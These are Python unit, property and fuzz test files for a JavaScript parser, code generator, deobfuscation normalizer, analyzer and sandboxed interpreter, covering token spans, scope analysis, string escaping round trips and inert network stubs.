    def test_indented_own_line_comment(self):
        (c,) = comments_of("if (x) {\n    // indented but alone\n    go();\n}\n")
        assert c.own_line and c.line == 2

    def test_parse_with_comments_helper(self):
        program, comments = parse_with_comments("// hi\nvar a = 1;\n")
        assert program.type == "Program"
        assert [c.text.strip() for c in comments] == ["hi"]

    def test_no_comments(self):
        assert comments_of("var a = 1;\n") == []


class TestSpanFidelity:
    def test_member_expression_starts_at_object(self):
        expr = first_statement("foo.bar.baz;").expression
        # ESTree: the whole member chain spans from the base object
        assert expr.loc == (1, 0)
        assert expr.object.loc == (1, 0)
        # ...but each property identifier points at itself
        assert expr.property.loc == (1, 8)
        assert expr.object.property.loc == (1, 4)

    def test_call_expression_starts_at_callee(self):
        expr = first_statement("foo.bar(1, 2);").expression
        assert expr.type == "CallExpression"
        assert expr.loc == (1, 0)

    def test_computed_member_starts_at_object(self):
        expr = first_statement('window["x"];').expression
        assert expr.loc == (1, 0)

    def test_named_function_expression_name_loc(self):
        decl = first_statement("var f = function named() {};")
        fn = decl.declarations[0].init
        assert fn.id is not None
        # the identifier's loc is the name token itself, not what follows it
        assert fn.id.loc == (1, 17)

    def test_labeled_break_span(self):
        src = "outer: for (;;) { break outer; }"
        loop = first_statement(src).body
        brk = loop.body.body[0]
        assert brk.type == "BreakStatement"
        assert brk.label.loc == (1, 24)

    def test_labeled_continue_span(self):
        src = "outer: for (;;) { continue outer; }"
        loop = first_statement(src).body
        cont = loop.body.body[0]
        assert cont.type == "ContinueStatement"
        assert cont.label.loc == (1, 27)

    def test_multiline_chain(self):
        src = "foo\n  .bar\n  .baz();\n"
        expr = first_statement(src).expression
        assert expr.type == "CallExpression"
        assert expr.loc == (1, 0)
        assert expr.callee.property.loc == (3, 3)
