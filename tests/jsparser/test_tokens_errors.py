"""Unit tests for the token model, error types, and codegen guards."""

import pytest

from repro.jsparser import CodegenError, JSSyntaxError, Token, TokenType, generate
from repro.jsparser.ast_nodes import Node
from repro.jsparser.tokens import KEYWORDS, PUNCTUATORS, Position


class TestTokenModel:
    def test_matches_by_type_and_value(self):
        token = Token(TokenType.KEYWORD, "var")
        assert token.matches(TokenType.KEYWORD)
        assert token.matches(TokenType.KEYWORD, "var")
        assert not token.matches(TokenType.KEYWORD, "let")
        assert not token.matches(TokenType.IDENTIFIER)

    def test_punctuators_sorted_longest_first(self):
        lengths = [len(p) for p in PUNCTUATORS]
        assert lengths == sorted(lengths, reverse=True)

    def test_keywords_cover_es5_core(self):
        assert {"var", "function", "return", "if", "while", "typeof", "new"} <= KEYWORDS

    def test_position_repr(self):
        assert repr(Position(3, 7)) == "3:7"

    def test_newline_flag_not_in_equality(self):
        a = Token(TokenType.IDENTIFIER, "x", preceded_by_newline=True)
        b = Token(TokenType.IDENTIFIER, "x", preceded_by_newline=False)
        assert a == b


class TestErrors:
    def test_syntax_error_carries_location(self):
        error = JSSyntaxError("bad thing", line=4, column=2, index=40)
        assert error.line == 4
        assert error.column == 2
        assert error.index == 40
        assert "Line 4" in str(error)

    def test_codegen_rejects_unknown_node(self):
        class Mystery(Node):
            type = "MysteryNode"

        with pytest.raises(CodegenError):
            generate(Mystery())


class TestNodeProtocol:
    def test_replace_child_in_field(self):
        from repro.jsparser import parse

        program = parse("f(1);")
        call = program.body[0].expression
        old = call.arguments[0]
        from repro.jsparser.ast_nodes import Literal

        new = Literal(2, "2")
        assert call.replace_child(old, new)
        assert call.arguments[0] is new

    def test_replace_child_missing_returns_false(self):
        from repro.jsparser import parse
        from repro.jsparser.ast_nodes import Literal

        program = parse("f(1);")
        assert not program.replace_child(Literal(9, "9"), Literal(8, "8"))

    def test_to_dict_serializes_estree_shape(self):
        from repro.jsparser import parse

        tree = parse("var v = 1;").body[0].to_dict()
        assert tree["type"] == "VariableDeclaration"
        assert tree["kind"] == "var"
        assert tree["declarations"][0]["id"]["name"] == "v"
        assert tree["declarations"][0]["init"]["value"] == 1

    def test_children_skips_none_fields(self):
        from repro.jsparser import parse

        if_stmt = parse("if (a) b();").body[0]
        kinds = [child.type for child in if_stmt.children()]
        assert "ExpressionStatement" in kinds
        assert None not in kinds
