"""String-literal escaping round trips exactly through the codegen.

The escaper emits non-ASCII literally: a ``\\uD83D\\uDE00``
surrogate-pair escape would re-lex as two lone surrogate code units and
change the literal's value — the round-trip gap that motivated replacing
``json.dumps``.  These tests pin the contract the deobfuscation
pre-pass relies on: ``parse(generate(ast))`` preserves every string
value the normalizer inlines.
"""

import hypothesis.strategies as st
import pytest
from hypothesis import example, given, settings

from repro.deobfuscate import normalize_source
from repro.jsparser import generate, parse
from repro.jsparser.codegen import _escape_string


def literal_value(source):
    return parse(source).body[0].declarations[0].init.value


def roundtrip(value):
    return literal_value(f"var x = {_escape_string(value)};")


class TestEscapeString:
    @pytest.mark.parametrize(
        "value",
        [
            "",
            "plain",
            'quote " backslash \\',
            "newline\ntab\tcr\r",
            "bell\bformfeed\fvtab\v",
            "nul\x00 and ctl\x1f",
            "astral 😀 pair",
            "line sep   para sep  ",
            "lone surrogate 𐏿",
            "snowman ☃ accents éü",
        ],
    )
    def test_known_values_round_trip(self, value):
        assert roundtrip(value) == value

    def test_astral_emitted_literally_not_as_pair(self):
        assert "\\ud83d" not in _escape_string("😀").lower()

    def test_separators_escaped(self):
        out = _escape_string("a b")
        assert " " not in out
        assert "\\u2028" in out

    @given(
        st.text(
            alphabet=st.characters(min_codepoint=0, max_codepoint=0x10FFFF),
            max_size=40,
        )
    )
    @settings(max_examples=300, deadline=None)
    @example("  ")
    @example("\ud800 lone")
    @example("\x00\x01\x1f")
    def test_any_text_round_trips(self, value):
        assert roundtrip(value) == value


class TestNormalizeCodegenReparse:
    """deobfuscate → generate → reparse property: the normalizer's
    output is always valid JS whose literals carry the decoded values."""

    @given(
        st.lists(
            st.text(
                alphabet=st.characters(min_codepoint=1, max_codepoint=0x2FFF),
                min_size=1,
                max_size=12,
            ),
            min_size=2,
            max_size=4,
        )
    )
    @settings(max_examples=100, deadline=None)
    def test_folded_concat_survives_reparse(self, parts):
        concat = " + ".join(_escape_string(p) for p in parts)
        out, report = normalize_source(f"var x = {concat};\nuse(x);\n")
        assert report.rewrites.get("fold", 0) >= 1
        assert not report.degraded
        assert literal_value(out) == "".join(parts)
        # The normalized form must itself re-parse and re-generate stably.
        assert generate(parse(out)) == generate(parse(generate(parse(out))))

    @given(st.lists(st.integers(min_value=1, max_value=0xFFFF), min_size=1, max_size=8))
    @settings(max_examples=100, deadline=None)
    def test_decoded_fromcharcode_survives_reparse(self, codes):
        arglist = ", ".join(str(c) for c in codes)
        out, report = normalize_source(f"var x = String.fromCharCode({arglist});\nuse(x);\n")
        assert not report.degraded
        if report.rewrites.get("decode"):
            assert literal_value(out) == "".join(chr(c) for c in codes)
            parse(out)
