"""Parser robustness: corpus round-trips and seeded mutation fuzzing.

Two contracts under fire:

* ``parse`` either succeeds or raises :class:`JSSyntaxError` — never an
  uncaught ``IndexError``/``AttributeError``/``TypeError`` — no matter how
  mangled the input is,
* ``Analyzer.analyze`` **never** raises at all (its report carries the
  structured parse failure instead).

The mutation corpus is deterministic (seeded ``random.Random``), so a
failure reproduces by seed.
"""

import random
from pathlib import Path

import hypothesis.strategies as st
import pytest
from hypothesis import given, settings

from repro.analysis import Analyzer
from repro.jsparser import JSSyntaxError, generate, parse

CORPUS = sorted((Path(__file__).resolve().parents[2] / "examples" / "corpus").glob("*.js"))

FUZZ_CHARS = "(){}[];,.\"'`\\/+-*<>=!&|?:%\n\t xX09_$"


def parse_or_syntax_error(source: str):
    """The whole robustness contract in one helper."""
    try:
        return parse(source)
    except (JSSyntaxError, RecursionError):
        return None


def mutate(source: str, rng: random.Random) -> str:
    """One random structural mutation: delete, duplicate, insert, or swap."""
    if not source:
        return rng.choice(FUZZ_CHARS)
    op = rng.randrange(4)
    i = rng.randrange(len(source))
    j = min(len(source), i + rng.randrange(1, 12))
    if op == 0:  # delete a slice
        return source[:i] + source[j:]
    if op == 1:  # duplicate a slice
        return source[:j] + source[i:j] + source[j:]
    if op == 2:  # insert fuzz characters
        blob = "".join(rng.choice(FUZZ_CHARS) for _ in range(rng.randrange(1, 8)))
        return source[:i] + blob + source[i:]
    return source[:i] + source[i:j][::-1] + source[j:]  # reverse a slice


@pytest.mark.parametrize("path", CORPUS, ids=lambda p: p.name)
class TestCorpusRoundTrip:
    def test_parse_generate_reparse_stabilizes(self, path):
        source = path.read_text()
        first = generate(parse(source))
        second = generate(parse(first))
        # codegen output is a fixed point: regenerating it changes nothing
        assert second == first

    def test_analyzer_handles_corpus(self, path):
        report = Analyzer().analyze(path.read_text(), name=path.name)
        assert report.parse_ok
        assert 0.0 <= report.score < 1.0


@pytest.mark.parametrize("path", CORPUS, ids=lambda p: p.name)
def test_mutated_corpus_never_crashes(path):
    source = path.read_text()
    analyzer = Analyzer()
    rng = random.Random(f"fuzz:{path.name}")
    for round_number in range(30):
        mutant = source
        for _ in range(rng.randrange(1, 5)):
            mutant = mutate(mutant, rng)
        program = parse_or_syntax_error(mutant)  # only JSSyntaxError allowed
        if program is not None:
            generate(program)  # a parsed mutant must also be printable
        report = analyzer.analyze(mutant, name=f"{path.name}#{round_number}")
        assert report is not None and report.elapsed_ms >= 0.0


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=FUZZ_CHARS, max_size=120))
def test_random_text_parse_contract(source):
    parse_or_syntax_error(source)


@settings(max_examples=75, deadline=None)
@given(st.text(max_size=80))
def test_random_unicode_analyzer_never_raises(source):
    report = Analyzer().analyze(source)
    assert report.name == "<script>"


def test_truncation_sweep_on_one_sample():
    # Every prefix of a real script: the classic lexer/parser crash surface.
    source = CORPUS[0].read_text()[:400]
    for end in range(len(source)):
        parse_or_syntax_error(source[:end])
