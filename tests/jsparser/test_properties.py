"""Property-based tests: random ASTs round-trip through codegen + parser."""

import hypothesis.strategies as st
from hypothesis import given, settings

from repro.jsparser import generate, parse, walk

# ---------------------------------------------------------------- strategies

_identifiers = st.from_regex(r"[a-z][a-zA-Z0-9_]{0,6}", fullmatch=True).filter(
    lambda s: s
    not in {
        "var",
        "let",
        "const",
        "if",
        "else",
        "for",
        "in",
        "of",
        "do",
        "while",
        "new",
        "this",
        "true",
        "false",
        "null",
        "typeof",
        "void",
        "delete",
        "return",
        "function",
        "try",
        "catch",
        "finally",
        "throw",
        "switch",
        "case",
        "default",
        "break",
        "continue",
        "with",
        "debugger",
        "instanceof",
        "yield",
        "class",
        "extends",
        "super",
        "get",
        "set",
    }
)

_numbers = st.integers(min_value=0, max_value=10**9).map(str)
_strings = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters='"\\\n\r'),
    max_size=12,
).map(lambda s: '"' + s + '"')

_atoms = st.one_of(_identifiers, _numbers, _strings, st.sampled_from(["true", "false", "null", "this"]))


def _expressions(children):
    binary = st.tuples(children, st.sampled_from(["+", "-", "*", "/", "%", "==", "===", "<", ">", "&&", "||"]), children).map(
        lambda t: f"({t[0]} {t[1]} {t[2]})"
    )
    unary = st.tuples(st.sampled_from(["!", "-", "typeof "]), children).map(lambda t: f"({t[0]}{t[1]})")
    call = st.tuples(_identifiers, st.lists(children, max_size=3)).map(lambda t: f"{t[0]}({', '.join(t[1])})")
    member = st.tuples(children, _identifiers).map(lambda t: f"({t[0]}).{t[1]}")
    index = st.tuples(children, children).map(lambda t: f"({t[0]})[{t[1]}]")
    conditional = st.tuples(children, children, children).map(lambda t: f"({t[0]} ? {t[1]} : {t[2]})")
    array = st.lists(children, max_size=4).map(lambda xs: "[" + ", ".join(xs) + "]")
    return st.one_of(binary, unary, call, member, index, conditional, array)


expression_strategy = st.recursive(_atoms, _expressions, max_leaves=20)


def _statements(children):
    block = st.lists(children, max_size=3).map(lambda xs: "{ " + " ".join(xs) + " }")
    if_stmt = st.tuples(expression_strategy, children).map(lambda t: f"if ({t[0]}) {t[1]}")
    if_else = st.tuples(expression_strategy, children, children).map(lambda t: f"if ({t[0]}) {t[1]} else {t[2]}")
    while_stmt = st.tuples(expression_strategy, children).map(lambda t: f"while ({t[0]}) {t[1]}")
    fn = st.tuples(_identifiers, st.lists(_identifiers, max_size=3, unique=True), st.lists(children, max_size=2)).map(
        lambda t: f"function {t[0]}({', '.join(t[1])}) {{ {' '.join(t[2])} }}"
    )
    return st.one_of(block, if_stmt, if_else, while_stmt, fn)


_simple_statements = st.one_of(
    st.tuples(_identifiers, expression_strategy).map(lambda t: f"var {t[0]} = {t[1]};"),
    expression_strategy.map(lambda e: f"({e});"),
    st.tuples(_identifiers, expression_strategy).map(lambda t: f"{t[0]} = {t[1]};"),
)

statement_strategy = st.recursive(_simple_statements, _statements, max_leaves=12)

program_strategy = st.lists(statement_strategy, min_size=1, max_size=6).map("\n".join)


# -------------------------------------------------------------------- tests


def _shape(program):
    return [node.type for node in walk(program)]


@settings(max_examples=120, deadline=None)
@given(program_strategy)
def test_generated_programs_parse(source):
    parse(source)


@settings(max_examples=120, deadline=None)
@given(program_strategy)
def test_codegen_roundtrip_is_fixpoint(source):
    first = generate(parse(source))
    second = generate(parse(first))
    assert first == second


@settings(max_examples=120, deadline=None)
@given(program_strategy)
def test_codegen_preserves_tree_shape(source):
    tree = parse(source)
    regenerated = parse(generate(tree))
    assert _shape(tree) == _shape(regenerated)


@settings(max_examples=80, deadline=None)
@given(st.text(max_size=40))
def test_lexer_never_crashes_unexpectedly(source):
    """The lexer either tokenizes or raises JSSyntaxError — nothing else."""
    from repro.jsparser import JSSyntaxError, tokenize

    try:
        tokens = tokenize(source)
        assert tokens[-1].type.name == "EOF"
    except JSSyntaxError:
        pass


@settings(max_examples=60, deadline=None)
@given(program_strategy)
def test_token_spans_cover_source(source):
    from repro.jsparser import tokenize

    for token in tokenize(source)[:-1]:
        assert 0 <= token.start < token.end <= len(source)
        assert source[token.start : token.end] == token.raw
