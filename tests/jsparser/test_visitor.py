"""Unit tests for the AST traversal utilities."""

from repro.jsparser import (
    FunctionScopedVisitor,
    Visitor,
    count_nodes,
    find_all,
    parse,
    walk,
    walk_with_parent,
)

SRC = "function f(a) { var b = a + 1; return b; } var c = f(2);"


class TestWalk:
    def test_preorder_starts_at_root(self):
        nodes = list(walk(parse(SRC)))
        assert nodes[0].type == "Program"

    def test_count_matches_walk(self):
        program = parse(SRC)
        assert count_nodes(program) == len(list(walk(program)))

    def test_walk_with_parent_pairs(self):
        program = parse(SRC)
        pairs = list(walk_with_parent(program))
        root, root_parent = pairs[0]
        assert root_parent is None
        child_parents = {id(n): p for n, p in pairs}
        for node, parent in pairs[1:]:
            assert parent is not None
            assert node in list(parent.children())

    def test_find_all_by_type(self):
        program = parse(SRC)
        assert len(find_all(program, "VariableDeclaration")) == 2
        assert len(find_all(program, "FunctionDeclaration")) == 1
        assert find_all(program, "WithStatement") == []


class TestVisitor:
    def test_dispatch_by_type(self):
        seen = []

        class Collect(Visitor):
            def visit_Identifier(self, node):
                seen.append(node.name)

        Collect().visit(parse("var x = y + z;"))
        assert seen == ["x", "y", "z"]

    def test_generic_visit_recurses(self):
        counts = {"n": 0}

        class CountAll(Visitor):
            def generic_visit(self, node):
                counts["n"] += 1
                super().generic_visit(node)

        CountAll().visit(parse("f(1);"))
        assert counts["n"] == count_nodes(parse("f(1);"))

    def test_function_scoped_visitor_stops_at_functions(self):
        seen = []

        class TopLevelCalls(FunctionScopedVisitor):
            def visit_CallExpression(self, node):
                seen.append(node.callee.name)

        TopLevelCalls().visit(parse("top(); var f = function() { inner(); };"))
        assert seen == ["top"]
