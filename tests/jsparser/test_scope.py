"""Unit tests for scope analysis."""

from repro.jsparser import analyze_scopes, parse


def analyze(source):
    return analyze_scopes(parse(source))


class TestDeclarations:
    def test_global_var(self):
        analyzer = analyze("var x = 1;")
        assert "x" in analyzer.global_scope.bindings
        assert analyzer.global_scope.bindings["x"].kind == "var"

    def test_function_declaration_binding(self):
        analyzer = analyze("function f() {}")
        assert analyzer.global_scope.bindings["f"].kind == "function"

    def test_params_bound_in_function_scope(self):
        analyzer = analyze("function f(a, b) { return a + b; }")
        fn_scope = analyzer.global_scope.children[0]
        assert fn_scope.kind == "function"
        assert set(fn_scope.bindings) == {"a", "b"}

    def test_var_hoists_out_of_block(self):
        analyzer = analyze("if (c) { var x = 1; }")
        assert "x" in analyzer.global_scope.bindings

    def test_let_stays_in_block(self):
        analyzer = analyze("{ let x = 1; }")
        assert "x" not in analyzer.global_scope.bindings
        block = analyzer.global_scope.children[0]
        assert "x" in block.bindings

    def test_var_in_function_does_not_leak(self):
        analyzer = analyze("function f() { var inner = 1; }")
        assert "inner" not in analyzer.global_scope.bindings

    def test_catch_param_scoped(self):
        analyzer = analyze("try {} catch (e) { e; }")
        assert "e" not in analyzer.global_scope.bindings
        catch_scope = next(s for s in analyzer.global_scope.iter_scopes() if s.kind == "catch")
        assert "e" in catch_scope.bindings

    def test_for_let_scoped_to_loop(self):
        analyzer = analyze("for (let i = 0; i < 3; i++) {}")
        assert "i" not in analyzer.global_scope.bindings

    def test_for_var_hoists(self):
        analyzer = analyze("for (var i = 0; i < 3; i++) {}")
        assert "i" in analyzer.global_scope.bindings

    def test_repeated_var_merges_into_one_binding(self):
        analyzer = analyze("var x = 1; var x = 2; use(x);")
        binding = analyzer.global_scope.bindings["x"]
        assert len(binding.declarations) == 2
        assert len(binding.references) == 1

    def test_named_function_expression_self_binding(self):
        analyzer = analyze("var f = function rec(n) { return n && rec(n - 1); };")
        fn_scope = analyzer.global_scope.children[0]
        assert "rec" in fn_scope.bindings
        assert "rec" not in analyzer.global_scope.bindings


class TestReferences:
    def test_reference_resolution(self):
        analyzer = analyze("var x = 1; x = x + 1;")
        binding = analyzer.global_scope.bindings["x"]
        assert len(binding.references) == 2

    def test_closure_reference_resolves_outward(self):
        analyzer = analyze("var a = 1; function f() { return a; }")
        assert len(analyzer.global_scope.bindings["a"].references) == 1
        assert not analyzer.unresolved

    def test_shadowing(self):
        analyzer = analyze("var x = 1; function f(x) { return x; }")
        outer = analyzer.global_scope.bindings["x"]
        assert outer.references == []  # inner x refers to the param

    def test_member_property_not_a_reference(self):
        analyzer = analyze("var a = {}; a.b = 1;")
        assert {i.name for i in analyzer.unresolved} == set()

    def test_object_key_not_a_reference(self):
        analyzer = analyze("var o = { key: 1 };")
        assert not analyzer.unresolved

    def test_computed_member_is_a_reference(self):
        analyzer = analyze("var a = {}, k = 'x'; a[k];")
        assert len(analyzer.global_scope.bindings["k"].references) == 1

    def test_unresolved_globals_recorded(self):
        analyzer = analyze("document.write(navigator.userAgent);")
        assert {i.name for i in analyzer.unresolved} == {"document", "navigator"}

    def test_labels_are_not_references(self):
        analyzer = analyze("loop: for (;;) { break loop; }")
        assert not analyzer.unresolved

    def test_binding_of_ref_mapping(self):
        analyzer = analyze("var v = 1; use(v);")
        binding = analyzer.global_scope.bindings["v"]
        ref = binding.references[0]
        assert analyzer.binding_of_ref[id(ref)] is binding


class TestScopeShape:
    def test_nested_function_scopes(self):
        analyzer = analyze("function outer() { function inner() {} }")
        outer_scope = analyzer.global_scope.children[0]
        assert outer_scope.kind == "function"
        assert any(s.kind == "function" for s in outer_scope.children)

    def test_all_binding_names_walks_chain(self):
        analyzer = analyze("var g = 1; function f(p) { var l = 2; }")
        fn_scope = analyzer.global_scope.children[0]
        names = fn_scope.all_binding_names()
        assert {"g", "f", "p", "l"} <= names

    def test_iter_scopes_covers_everything(self):
        analyzer = analyze("function a() { if (x) { let y; } } var b = () => 1;")
        kinds = [s.kind for s in analyzer.global_scope.iter_scopes()]
        assert kinds.count("function") == 2
        assert "block" in kinds
