"""Unit tests for the code generator (round-trip fidelity)."""

import pytest

from repro.jsparser import generate, parse, walk


def roundtrip(source):
    """generate(parse(src)) must itself parse to an equivalent tree."""
    first = generate(parse(source))
    second = generate(parse(first))
    assert first == second, f"not a fixpoint:\n{first!r}\n{second!r}"
    return first


def shapes(source):
    return [node.type for node in walk(parse(source))]


SNIPPETS = [
    "var x = 1;",
    "let y = 'two';",
    "const z = [1, 2, 3];",
    "x = a + b * c - d / e % f;",
    "x = (a + b) * c;",
    "x = a ** b ** c;",
    "x = (a ** b) ** c;",
    "x = a === b && c !== d || !e;",
    "x = a ? b : c;",
    "x = -(-y);",
    "x = - -y;",
    "x = +(+y);",
    "x = typeof y;",
    "x = void 0;",
    "delete o.k;",
    "i++;",
    "--j;",
    "a.b.c = d[e][f];",
    "f(1, 'x', g(2));",
    "new Foo(1, 2);",
    "new a.b.C();",
    "x = new Date().getTime();",
    "(function() { return 1; })();",
    "var f = function named(a) { return a; };",
    "var g = (a, b) => a + b;",
    "var h = x => { return x; };",
    "var o = { a: 1, 'b': 2, c: function() {} };",
    "var arr = [1, , 3];",
    "if (a) b(); else c();",
    "if (a) { b(); } else if (c) { d(); } else { e(); }",
    "for (var i = 0; i < 10; i++) f(i);",
    "for (;;) break;",
    "for (var k in o) f(k);",
    "for (var v of xs) f(v);",
    "while (a) b();",
    "do a(); while (b);",
    "switch (x) { case 1: a(); break; default: b(); }",
    "try { a(); } catch (e) { b(e); } finally { c(); }",
    "throw new Error('bad');",
    "label: for (;;) { break label; }",
    "with (o) { f(); }",
    "debugger;",
    "var r = /a[/]b/gi;",
    "var t = `template text`;",
    "a, b, c;",
    "x = (a, b);",
    "f(...args);",
    "function r(...rest) { return rest; }",
    "x = a in b;",
    "x = a instanceof B;",
    "for (var x = ('k' in o) ? 1 : 0; x;) {}",
    "var n = 0x1f + 0b11 + 0o17 + 1e3 + .5;",
    "'use strict';",
    "x = a << 2 >> 1 >>> 3;",
    "x = a & b | c ^ d;",
    "x = s + 'lit' + `tpl`;",
    "o.get = 1;",
    "x = y.delete;",
    "var q = { get p() { return 1; }, set p(v) { this._p = v; } };",
]


@pytest.mark.parametrize("src", SNIPPETS, ids=range(len(SNIPPETS)))
def test_roundtrip_fixpoint(src):
    roundtrip(src)


@pytest.mark.parametrize("src", SNIPPETS, ids=range(len(SNIPPETS)))
def test_roundtrip_preserves_shape(src):
    regenerated = generate(parse(src))
    assert shapes(src) == shapes(regenerated)


class TestPrecedencePreservation:
    def test_parenthesized_addition_kept(self):
        out = generate(parse("x = (a + b) * c;"))
        assert "(a + b) * c" in out

    def test_needless_parens_dropped(self):
        out = generate(parse("x = (a * b) + c;"))
        assert "(" not in out.replace("(a", "XX") or "a * b + c" in out

    def test_sequence_in_call_argument(self):
        out = generate(parse("f((a, b));"))
        assert "f((a, b))" in out

    def test_assignment_in_condition(self):
        out = generate(parse("if (x = f()) g();"))
        assert "if (x = f())" in out

    def test_object_literal_statement_wrapped(self):
        out = generate(parse("({ a: 1 });"))
        assert out.lstrip().startswith("(")

    def test_function_expression_statement_wrapped(self):
        out = generate(parse("(function() {})();"))
        assert out.lstrip().startswith("(")

    def test_unary_minus_chain_spacing(self):
        # -(-x) must not be printed as --x
        out = generate(parse("y = -(-x);"))
        assert "--" not in out

    def test_number_member_call(self):
        out = generate(parse("x = (5).toString();"))
        assert "(5).toString" in out

    def test_new_callee_with_call_parenthesized(self):
        out = generate(parse("var a = new (getClass())();"))
        assert "new (getClass())" in out


class TestStringEscaping:
    @pytest.mark.parametrize("value", ["plain", 'has "quotes"', "line\nbreak", "tab\there", "back\\slash", "unié"])
    def test_string_literal_roundtrip_value(self, value):
        program = parse(generate(parse(f"var s = {_js_string(value)};")))
        literal = program.body[0].declarations[0].init
        assert literal.value == value


def _js_string(value):
    import json

    return json.dumps(value)
