"""Unit tests for the host environment and lexical environments."""

import pytest

from repro.jsinterp import Environment, JSReferenceError, run_program


class TestEnvironmentChain:
    def test_declare_and_get(self):
        env = Environment()
        env.declare("x", 1.0)
        assert env.get("x") == 1.0

    def test_lookup_through_parents(self):
        root = Environment()
        root.declare("outer", "o")
        child = Environment(root)
        assert child.get("outer") == "o"
        assert child.has("outer")

    def test_missing_name_raises(self):
        with pytest.raises(JSReferenceError):
            Environment().get("ghost")

    def test_set_updates_nearest_binding(self):
        root = Environment()
        root.declare("v", 1.0)
        child = Environment(root)
        child.set("v", 2.0)
        assert root.get("v") == 2.0
        assert "v" not in child.bindings

    def test_undeclared_set_creates_global(self):
        root = Environment()
        child = Environment(root)
        child.set("implicit", 5.0)
        assert root.get("implicit") == 5.0

    def test_shadowing(self):
        root = Environment()
        root.declare("s", "outer")
        child = Environment(root)
        child.declare("s", "inner")
        assert child.get("s") == "inner"
        assert root.get("s") == "outer"

    def test_global_env_walks_to_root(self):
        root = Environment()
        leaf = Environment(Environment(root))
        assert leaf.global_env() is root


class TestHostDOM:
    def test_get_element_by_id_is_stable(self):
        recorder = run_program(
            "var a = document.getElementById('x'); a.textContent = 'v';"
            "console.log(document.getElementById('x').textContent);"
        )
        assert recorder.console == ["v"]

    def test_element_style_object(self):
        recorder = run_program(
            "var e = document.getElementById('p'); e.style.width = '10px';"
            "console.log(e.style.width);"
        )
        assert recorder.console == ["10px"]

    def test_location_replace_recorded(self):
        recorder = run_program("location.replace('https://next.example/x');")
        assert recorder.locations == ["https://next.example/x"]

    def test_navigator_properties(self):
        recorder = run_program("console.log(typeof navigator.userAgent, navigator.hardwareConcurrency >= 1);")
        assert recorder.console == ["string true"]

    def test_math_random_deterministic(self):
        a = run_program("console.log(Math.random());").console
        b = run_program("console.log(Math.random());").console
        assert a == b

    def test_image_beacon_is_inert(self):
        recorder = run_program("var img = new Image(); img.src = 'https://x.example/b'; console.log('done');")
        assert recorder.console == ["done"]

    def test_xhr_stub_safe(self):
        recorder = run_program(
            "var r = new XMLHttpRequest(); r.open('GET', '/x', true); r.send(null); console.log(r.status);"
        )
        assert recorder.console == ["0"]

    def test_websocket_stub_safe(self):
        recorder = run_program("var ws = new WebSocket('wss://h.example/s'); ws.send('x'); console.log('ok');")
        assert recorder.console == ["ok"]

    def test_timer_depth_capped(self):
        recorder = run_program(
            "var n = 0; function loop() { n++; setTimeout(loop, 1); } loop(); console.log(n);"
        )
        # Depth cap cuts the self-rescheduling chain; timers still recorded.
        assert len(recorder.timers) >= 3
        assert recorder.console  # finished rather than recursing forever

    def test_eval_string_timer_payload(self):
        recorder = run_program("setTimeout(\"console.log('from-string')\", 10);")
        assert recorder.console == ["from-string"]

    def test_error_constructor(self):
        recorder = run_program("try { throw new Error('bang'); } catch (e) { console.log(e.message); }")
        assert recorder.console == ["bang"]

    def test_undefined_global_binding(self):
        recorder = run_program("console.log(undefined === void 0);")
        assert recorder.console == ["true"]
