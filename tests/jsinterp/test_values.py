"""Unit tests for the JS value model and coercions."""

import math

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.jsinterp import JSArray, JSNull, JSObject, JSUndefined, to_boolean, to_number, to_string, type_of
from repro.jsinterp.values import format_number, js_equals, strict_equals, to_int32, to_uint32


class TestToBoolean:
    @pytest.mark.parametrize(
        "value,expected",
        [
            (JSUndefined, False),
            (JSNull, False),
            (0.0, False),
            (float("nan"), False),
            ("", False),
            (1.0, True),
            (-1.0, True),
            ("x", True),
            (True, True),
            (False, False),
        ],
    )
    def test_primitives(self, value, expected):
        assert to_boolean(value) is expected

    def test_objects_always_truthy(self):
        assert to_boolean(JSObject()) is True
        assert to_boolean(JSArray([])) is True  # [] is truthy in JS


class TestToNumber:
    @pytest.mark.parametrize(
        "value,expected",
        [
            (True, 1.0),
            (False, 0.0),
            (JSNull, 0.0),
            ("", 0.0),
            ("  42 ", 42.0),
            ("0x10", 16.0),
            (3, 3.0),
        ],
    )
    def test_values(self, value, expected):
        assert to_number(value) == expected

    def test_nan_cases(self):
        assert math.isnan(to_number(JSUndefined))
        assert math.isnan(to_number("not a number"))
        assert math.isnan(to_number(JSObject()))

    def test_single_element_array(self):
        assert to_number(JSArray([7.0])) == 7.0
        assert to_number(JSArray([])) == 0.0
        assert math.isnan(to_number(JSArray([1.0, 2.0])))


class TestToString:
    @pytest.mark.parametrize(
        "value,expected",
        [
            (JSUndefined, "undefined"),
            (JSNull, "null"),
            (True, "true"),
            (False, "false"),
            (1.0, "1"),
            (1.5, "1.5"),
            (-0.0, "0"),
            ("s", "s"),
        ],
    )
    def test_primitives(self, value, expected):
        assert to_string(value) == expected

    def test_array_join_semantics(self):
        assert to_string(JSArray([1.0, "x", JSNull, JSUndefined])) == "1,x,,"

    def test_object(self):
        assert to_string(JSObject()) == "[object Object]"

    def test_special_numbers(self):
        assert format_number(math.inf) == "Infinity"
        assert format_number(-math.inf) == "-Infinity"
        assert format_number(math.nan) == "NaN"


class TestInt32:
    def test_wraparound(self):
        assert to_int32(2**31) == -(2**31)
        assert to_int32(2**32 + 5) == 5
        assert to_uint32(-1) == 2**32 - 1

    def test_nan_and_inf_are_zero(self):
        assert to_int32(float("nan")) == 0
        assert to_int32(float("inf")) == 0

    @settings(max_examples=60, deadline=None)
    @given(st.integers(min_value=-(2**40), max_value=2**40))
    def test_int32_range_invariant(self, n):
        v = to_int32(float(n))
        assert -(2**31) <= v < 2**31
        assert 0 <= to_uint32(float(n)) < 2**32


class TestEquality:
    def test_loose_coercions(self):
        assert js_equals(1.0, "1")
        assert js_equals(True, 1.0)
        assert js_equals(JSNull, JSUndefined)
        assert not js_equals(JSNull, 0.0)
        assert not js_equals("", "0")

    def test_strict_type_gate(self):
        assert not strict_equals(1.0, "1")
        assert strict_equals("a", "a")
        assert not strict_equals(float("nan"), float("nan"))

    def test_object_identity(self):
        o = JSObject()
        assert strict_equals(o, o)
        assert not strict_equals(o, JSObject())


class TestJSArray:
    def test_length_grows_on_index_set(self):
        arr = JSArray([1.0])
        arr.set("4", 9.0)
        assert arr.get("length") == 5.0
        assert arr.get("2") is JSUndefined

    def test_length_truncates(self):
        arr = JSArray([1.0, 2.0, 3.0])
        arr.set("length", 1.0)
        assert arr.elements == [1.0]

    def test_non_index_properties(self):
        arr = JSArray()
